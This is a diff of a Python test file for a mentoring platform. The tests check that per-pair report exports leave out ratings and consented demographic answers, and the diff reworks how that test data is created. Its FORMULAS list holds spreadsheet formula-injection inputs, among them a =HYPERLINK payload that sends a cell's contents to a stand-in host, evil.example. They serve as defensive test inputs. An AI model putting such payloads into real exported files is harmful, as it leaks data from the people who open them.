@@ -14,15 +14,18 @@ from engagement.health import health_of_matches
 from engagement.tests.factories import add_meeting, make_match
 from matching.models import Match
 from matching.tests.factories import make_person
-from people.models import Demographics
+from networks.tests.factories import make_network
+from people.tests.factories import answer
 from programmes.tests.factories import make_programme
 from reports.cells import csv_value
 from sessions_log.models import Feedback
 from surveys.models import PulseResponse
 
 NOW = datetime(2026, 6, 15, 9, 0, tzinfo=UTC)
-ANSWERS = {"gender": "Genderfluid-7Q", "ethnicity_group": "Ethnic-7Q", "disability": "yes", "generation": "gen_x",
-           "staff_network": "Network-7Q"}  # fmt: skip
+# Self-descriptions (text that must never reach an export), options, and a network's name.
+ANSWERS = {"gender_identity": "Genderfluid-7Q", "ethnic_group": "Ethnic-7Q"}
+OPTIONS = {"disability": "Yes", "generation": "Generation X (1965-80)"}
+NETWORK = "Network-7Q"
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&E2,"Click")', "+1+2", "-3+4", "@SUM(1,2)", "\tTabbed",
             "\rReturned"]  # fmt: skip
 LABEL = f"{FORMULAS[0]} · =1+1"  # the programme as the figures and the meeting log name it, with its cohort
@@ -46,11 +49,15 @@ def reverse_pairs(carol):
     """A reverse programme of 6 pairs whose people consented to their attributes; the
     pairs rate their meetings 1 of 5 and their check-ins 1, and meet on time."""
     programme = make_programme(carol, name="Reverse", kind="reverse", status="running", cadence="monthly")
-    pairs = []
+    pairs, members = [], []
     for number in range(6):
         mentee, mentor = make_person(f"Senior {number}"), make_person(f"Junior {number}")
         for person in (mentee, mentor):
-            Demographics.objects.create(user=person, consented_at=NOW, **ANSWERS)
+            for key, text in ANSWERS.items():
+                answer(person, key, text=text)
+            for key, label in OPTIONS.items():
+                answer(person, key, label)
+            members.append(person)
         pair = make_match(carol, mentee, mentor, programme=programme, created_at=NOW - timedelta(days=40))
         meeting = add_meeting(pair, NOW - timedelta(days=10))
         Feedback.objects.create(meeting=meeting, author=mentee, rating=1)
@@ -58,6 +65,7 @@ def reverse_pairs(carol):
         PulseResponse.objects.create(match=pair, author=mentee, due_on=(NOW - timedelta(days=5)).date(), rating=1,
                                      meeting_as_planned=True)  # fmt: skip
         pairs.append(pair)
+    make_network(NETWORK, members=members)
     return pairs
 
 
@@ -74,7 +82,7 @@ def test_the_per_pair_exports_carry_no_rating_and_nothing_from_consented_attribu
     header = [str(label).lower() for label in rows[0]]
     assert not [label for label in header if "rating" in label or "check-in" in label or "feedback" in label]
     cells = {str(value) for row in rows for value in row}
-    for value in ANSWERS.values():
+    for value in [*ANSWERS.values(), NETWORK]:
         assert value not in cells and not any(value in cell for cell in cells)
     assert not {"Yes", "Generation X (1965-80)"} & cells
 
